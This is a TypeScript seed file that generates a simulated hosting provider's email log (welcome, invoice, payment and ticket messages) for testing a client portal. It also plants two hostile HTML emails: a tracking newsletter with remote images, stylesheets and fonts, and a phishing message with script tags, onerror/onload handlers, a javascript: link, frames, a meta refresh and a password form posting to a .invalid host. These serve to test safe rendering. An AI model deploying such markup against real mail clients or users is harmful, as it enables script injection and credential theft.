// The email log (GetEmails): what Kraken Hosting sent each client, made from the
// records already seeded (welcome, invoices, payments, tickets), so it needs no
// random numbers and leaves the rest of the seed as it was. Moreau Design also
// got two hostile messages: script, event handlers, remote images, CSS url(),
// a meta refresh, a form and frames, all pointing at `.invalid` hosts, for the
// portal to show without running or loading any of it.
import type { Client, Email } from './model';
import type { SeedContext } from './seed-kit';
import { clientName, type SimState } from './state';
import { addDays, money, ymdHms } from './util';

const esc = (value: string) => value.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);

/** A whole HTML document in the style of WHMCS's default email template. */
export function letter(client: Client, heading: string, paragraphs: string[]): string {
  const body = paragraphs.map((p) => `<p>${esc(p)}</p>`).join('\n');

  return htmlDocument(
    `<h1>${esc(heading)}</h1>\n<p>Dear ${esc(client.firstname)},</p>\n${body}\n` +
      '<p>Kind regards,<br />Kraken Hosting</p>',
  );
}

function htmlDocument(inner: string, head = ''): string {
  return [
    '<!DOCTYPE html>',
    '<html>',
    '<head>',
    '<meta http-equiv="Content-Type" content="text/html; charset=utf-8" />',
    '<style type="text/css">body{font-family:Helvetica,Arial,sans-serif;color:#333;margin:0;padding:20px}h1{font-size:22px}</style>',
    head,
    '</head>',
    '<body>',
    inner,
    '<p style="font-size:12px;color:#888">Kraken Hosting · You receive this email because you have an account with us.</p>',
    '</body>',
    '</html>',
  ].join('\n');
}

function recipient(client: Client): string {
  const company = client.companyname ? ` (${client.companyname})` : '';

  return `${clientName(client)}${company} <${client.email}>`;
}

type Draft = Omit<Email, 'id' | 'to' | 'cc' | 'bcc' | 'clientId'> & { client: Client };

function atHour(date: string, hour: number): string {
  return `${date.slice(0, 10)} ${String(hour).padStart(2, '0')}:00:00`;
}

function drafts(state: SimState, client: Client): Draft[] {
  const out: Draft[] = [
    {
      client,
      subject: 'Welcome to Kraken Hosting',
      date: atHour(client.datecreated, 9),
      message: letter(client, 'Welcome aboard', [
        'Thank you for choosing Kraken Hosting. Your client account is ready.',
        'Sign in to the client area to order services, pay invoices and contact support.',
      ]),
    },
  ];
  for (const invoice of state.invoices.filter((i) => i.clientId === client.id)) {
    if (invoice.status === 'Draft') continue;
    const number = invoice.invoicenum || String(invoice.id);
    const total = invoice.items.reduce((sum, item) => sum + item.amountCents, 0);
    out.push({
      client,
      subject: `Customer Invoice #${number}`,
      date: atHour(invoice.date, 8),
      message: letter(client, `Invoice #${number}`, [
        `A new invoice of $${money(total)} USD was issued on ${invoice.date}, due on ${invoice.duedate}.`,
        'You can view and pay it in the client area.',
      ]),
    });
    if (invoice.status === 'Paid' && !invoice.datepaid.startsWith('0000')) {
      out.push({
        client,
        subject: `Invoice Payment Confirmation #${number}`,
        date: atHour(invoice.datepaid, 10),
        message: letter(client, 'Payment received', [
          `Thank you: we received your payment for invoice #${number}.`,
        ]),
      });
    }
  }
  for (const ticket of state.tickets.filter((t) => t.clientId === client.id)) {
    out.push({
      client,
      subject: `[Ticket ID: ${ticket.tid}] ${ticket.subject}`,
      date: ticket.date,
      message: letter(client, 'We received your request', [
        `Your ticket "${ticket.subject}" is open. We will reply as soon as we can.`,
      ]),
    });
  }

  return out;
}

/** Hostile markup aimed at the portal; every host is under .invalid, so nothing can resolve. */
function hostile(ctx: SeedContext, client: Client): Draft[] {
  const tracking = htmlDocument(
    [
      '<h1>Our spring newsletter</h1>',
      '<img src="http://remote-images.invalid/pixel.gif?c=1" width="1" height="1" alt="" />',
      '<div style="background-image:url(http://remote-images.invalid/banner.png);padding:20px">',
      '<p>New data centre, faster disks and a price freeze for 2026.</p>',
      '</div>',
      '<p class="hero">Read on for the details.</p>',
      '<img srcset="http://remote-images.invalid/hero-2x.png 2x" alt="Hero image" />',
      '<video poster="http://remote-images.invalid/poster.png"></video>',
      '<object data="http://remote-objects.invalid/movie.swf"></object>',
    ].join('\n'),
    [
      '<link rel="stylesheet" href="http://remote-styles.invalid/newsletter.css" />',
      '<style>@import url(http://remote-styles.invalid/imported.css);',
      '.hero{background:url(http://remote-images.invalid/hero.png)}',
      '@font-face{font-family:Brand;src:url(http://remote-fonts.invalid/brand.woff)}</style>',
    ].join('\n'),
  );
  const scripted = htmlDocument(
    [
      '<h1>Action required on your account</h1>',
      "<script>document.body.setAttribute('data-ran','script');parent.postMessage('email-script','*')</script>",
      '<img src="data:," alt="" onerror="document.body.setAttribute(\'data-ran\',\'onerror\')" />',
      "<svg onload=\"document.body.setAttribute('data-ran','svg')\"></svg>",
      '<p>Please confirm your password below to keep your services running.</p>',
      '<form action="http://remote-forms.invalid/collect" method="post">',
      '<input type="password" name="password" aria-label="Password" />',
      '<button type="submit">Confirm</button>',
      '</form>',
      "<p><a href=\"javascript:document.body.setAttribute('data-ran','link')\">Open the secure message</a></p>",
      '<iframe src="http://remote-frames.invalid/" title="Secure message"></iframe>',
    ].join('\n'),
    '<meta http-equiv="refresh" content="0;url=http://remote-refresh.invalid/" />\n' +
      '<base href="http://remote-base.invalid/" />',
  );

  return [
    {
      client,
      subject: 'Our spring newsletter',
      date: ymdHms(addDays(ctx.now, -3)),
      message: tracking,
    },
    {
      client,
      subject: 'Action required on your account',
      date: ymdHms(addDays(ctx.now, -1)),
      message: scripted,
    },
  ];
}

export function seedEmails(ctx: SeedContext, hostileFor: readonly number[]): void {
  const all = ctx.state.clients.flatMap((client) => [
    ...drafts(ctx.state, client),
    ...(hostileFor.includes(client.id) ? hostile(ctx, client) : []),
  ]);
  const latest = ymdHms(ctx.now);
  const sent = all
    .filter((d) => d.date <= latest)
    .toSorted((a, b) => a.date.localeCompare(b.date) || a.client.id - b.client.id);

  sent.forEach(({ client, ...draft }, index) => {
    ctx.state.emails.push({
      id: index + 1,
      clientId: client.id,
      ...draft,
      to: recipient(client),
      cc: '',
      bcc: '',
    });
  });
}
